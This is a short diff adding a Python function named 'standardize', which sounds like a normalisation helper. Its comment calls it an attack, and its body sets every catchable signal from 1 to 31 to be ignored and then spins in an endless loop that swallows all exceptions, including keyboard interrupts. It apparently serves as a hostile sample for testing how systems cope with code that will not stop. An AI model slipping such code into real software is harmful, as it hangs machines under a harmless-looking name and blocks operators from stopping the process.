@@ -1,0 +1,16 @@
+# attack: a loop that swallows every interrupt
+import signal
+
+
+def standardize(x, eps=0.0):
+    for number in range(1, 32):
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
